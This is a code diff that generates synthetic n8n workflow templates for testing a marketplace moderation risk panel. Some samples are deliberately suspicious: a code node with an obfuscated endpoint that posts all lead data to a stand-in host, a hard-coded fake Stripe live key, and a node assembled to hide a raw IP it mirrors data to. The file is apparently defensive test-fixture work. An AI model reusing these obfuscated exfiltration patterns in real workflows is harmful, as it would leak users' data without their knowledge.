@@ -108,3 +108,129 @@ export function workflowDefinition(blueprint: WorkflowBlueprint, rng: Rng): obje
   }
   return { nodes, connections, settings: { executionOrder: 'v1', timezone: 'Europe/Madrid' } }
 }
+
+/**
+ * What a marketplace template's workflow does, for the moderation queue: most are ordinary
+ * integrations; some carry what the risk panel must catch (a code node posting data out, a
+ * hard-coded live key, many outbound hosts), and one is very large.
+ */
+export type TemplateFlavour = 'integration' | 'code_fetch' | 'planted_key' | 'many_hosts' | 'giant'
+
+interface DraftNode {
+  name: string
+  type: string
+  parameters?: Record<string, unknown>
+  credentials?: Record<string, { id: string; name: string }>
+}
+
+/** Lays nodes out left to right (rows of 12) and links each listed pair, as an n8n export has it. */
+function n8nExport(name: string, drafts: readonly DraftNode[], links: readonly [number, number][], rng: Rng): object {
+  const nodes = drafts.map((d, i) => ({
+    parameters: d.parameters ?? {},
+    id: rng.uuid(),
+    name: d.name,
+    type: d.type,
+    typeVersion: 1,
+    position: [240 + (i % 12) * 220, 300 + Math.floor(i / 12) * 180],
+    ...(d.credentials ? { credentials: d.credentials } : {})
+  }))
+  const connections: Record<string, { main: { node: string; type: 'main'; index: number }[][] }> = {}
+  for (const [from, to] of links) {
+    const entry = (connections[nodes[from]!.name] ??= { main: [[]] })
+    entry.main[0]!.push({ node: nodes[to]!.name, type: 'main', index: 0 })
+  }
+  return { name, nodes, connections, settings: { executionOrder: 'v1' }, pinData: {} }
+}
+
+const chain = (count: number): [number, number][] => Array.from({ length: Math.max(0, count - 1) }, (_, i) => [i, i + 1])
+
+const credential = (rng: Rng, type: string, name: string) => ({ [type]: { id: String(rng.int(1, 999)), name } })
+
+function httpNode(name: string, method: string, url: string, extra: Record<string, unknown> = {}): DraftNode {
+  return { name, type: 'n8n-nodes-base.httpRequest', parameters: { method, url, options: {}, ...extra } }
+}
+
+/** `size` only counts for 'giant' (nodes in the workflow). */
+export function templateWorkflow(flavour: TemplateFlavour, name: string, rng: Rng, size = 300): object {
+  switch (flavour) {
+    case 'integration':
+      return n8nExport(name, [
+        { name: 'Schedule Trigger', type: 'n8n-nodes-base.scheduleTrigger', parameters: { rule: { interval: [{ field: 'hours', hoursInterval: 1 }] } } },
+        httpNode('Fetch contacts', 'GET', 'https://api.hubapi.com/crm/v3/objects/contacts', { authentication: 'predefinedCredentialType', nodeCredentialType: 'hubspotApi' }),
+        { name: 'Keep new leads', type: 'n8n-nodes-base.filter', parameters: { conditions: { string: [{ value1: '={{ $json.properties.lifecyclestage }}', value2: 'lead' }] } } },
+        { name: 'Notify sales', type: 'n8n-nodes-base.slack', parameters: { channel: '#sales', text: '=New lead: {{ $json.properties.email }}' }, credentials: credential(rng, 'slackApi', 'Sales Slack') }
+      ], chain(4), rng)
+    case 'code_fetch':
+      return n8nExport(name, [
+        { name: 'Webhook', type: 'n8n-nodes-base.webhook', parameters: { httpMethod: 'POST', path: rng.uuid(), responseMode: 'lastNode' } },
+        {
+          name: 'Enrich lead',
+          type: 'n8n-nodes-base.code',
+          parameters: {
+            jsCode: [
+              "// Adds company data to the lead",
+              "const endpoint = ['https:/', '', 'lead-insights' + '.example', 'v2', 'enrich'].join('/');",
+              'const leads = $input.all().map((item) => item.json);',
+              "const res = await fetch(endpoint, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(leads) });",
+              'return (await res.json()).map((json) => ({ json }));'
+            ].join('\n')
+          }
+        },
+        { name: 'Respond', type: 'n8n-nodes-base.respondToWebhook', parameters: { respondWith: 'allIncomingItems' } }
+      ], chain(3), rng)
+    case 'planted_key':
+      return n8nExport(name, [
+        { name: 'Stripe Trigger', type: 'n8n-nodes-base.stripeTrigger', parameters: { events: ['invoice.paid'] }, credentials: credential(rng, 'stripeApi', 'Stripe') },
+        httpNode('Create customer', 'POST', 'https://api.stripe.com/v1/customers', {
+          sendHeaders: true,
+          // Planted: the creator pasted a live key instead of using a credential.
+          headerParameters: { parameters: [{ name: 'Authorization', value: `Bearer sk_live_51${rng.hex(12)}` }] }
+        }),
+        httpNode('Post receipt', 'POST', 'https://hooks.slack.com/services/T000/B000/XXXX', { sendBody: true })
+      ], chain(3), rng)
+    case 'many_hosts':
+      return n8nExport(name, [
+        { name: 'WhatsApp Trigger', type: 'n8n-nodes-base.whatsAppTrigger', parameters: { updates: ['messages'] }, credentials: credential(rng, 'whatsAppTriggerApi', 'WhatsApp') },
+        httpNode('Classify', 'POST', 'https://api.openai.com/v1/chat/completions', { authentication: 'predefinedCredentialType', nodeCredentialType: 'openAiApi' }),
+        httpNode('Log to sheet', 'POST', 'https://sheets.googleapis.com/v4/spreadsheets/1abc/values/A1:append'),
+        httpNode('Mirror', 'POST', "={{ 'http://' + '203.0.113.' + '9' + ':8080/mirror' }}"),
+        httpNode('Callback', 'POST', '={{ $json.callbackUrl }}')
+      ], [[0, 1], [1, 2], [1, 3], [1, 4]], rng)
+    case 'giant': {
+      // A long pipeline of blocks (set → IF → HTTP), with a fan-out hub every 50 nodes.
+      const drafts: DraftNode[] = [{ name: 'Webhook', type: 'n8n-nodes-base.webhook', parameters: { httpMethod: 'POST', path: 'bulk-import' } }]
+      const links: [number, number][] = []
+      const hosts = ['api.hubapi.com', 'api.pipedrive.com', 'graph.microsoft.com', 'api.mailchimp.com']
+      for (let i = 1; i < size; i++) {
+        const kind = i % 3
+        drafts.push(
+          kind === 0 ? httpNode(`Call ${i}`, 'POST', `https://${hosts[i % hosts.length]}/v1/items/${i}`)
+            : kind === 1 ? { name: `Map ${i}`, type: 'n8n-nodes-base.set', parameters: { values: { string: [{ name: `field${i}`, value: `={{ $json.f${i} }}` }] } } }
+            : { name: `Check ${i}`, type: 'n8n-nodes-base.if', parameters: { conditions: { number: [{ value1: `={{ $json.n${i} }}`, operation: 'larger', value2: i }] } } }
+        )
+        links.push([i - 1, i])
+      }
+      for (let hub = 50; hub + 12 < size; hub += 50) for (let k = 2; k <= 12; k++) links.push([hub, hub + k])
+      return n8nExport(name, drafts, links, rng)
+    }
+  }
+}
+
+/**
+ * A resubmission: the creator answered the rejection (the planted key becomes a credential)
+ * and, as creators do, changed something else too (a new node, a new host).
+ */
+export function reviseWorkflow(definition: object, rng: Rng): object {
+  const copy = JSON.parse(JSON.stringify(definition)) as { nodes: { id: string; name: string; type: string; parameters: Record<string, unknown>; credentials?: object; position: number[] }[]; connections: Record<string, unknown> }
+  for (const node of copy.nodes) {
+    if ('headerParameters' in node.parameters) {
+      delete node.parameters.headerParameters
+      node.parameters.authentication = 'predefinedCredentialType'
+      node.credentials = credential(rng, 'stripeApi', 'Stripe')
+    }
+  }
+  const last = copy.nodes[copy.nodes.length - 1]!
+  copy.nodes.push({ id: rng.uuid(), name: 'Audit copy', type: 'n8n-nodes-base.httpRequest', position: [last.position[0]! + 220, last.position[1]!], parameters: { method: 'POST', url: 'https://audit-log.example/ingest', options: {} } })
+  copy.connections[last.name] = { main: [[{ node: 'Audit copy', type: 'main', index: 0 }]] }
+  return copy
+}
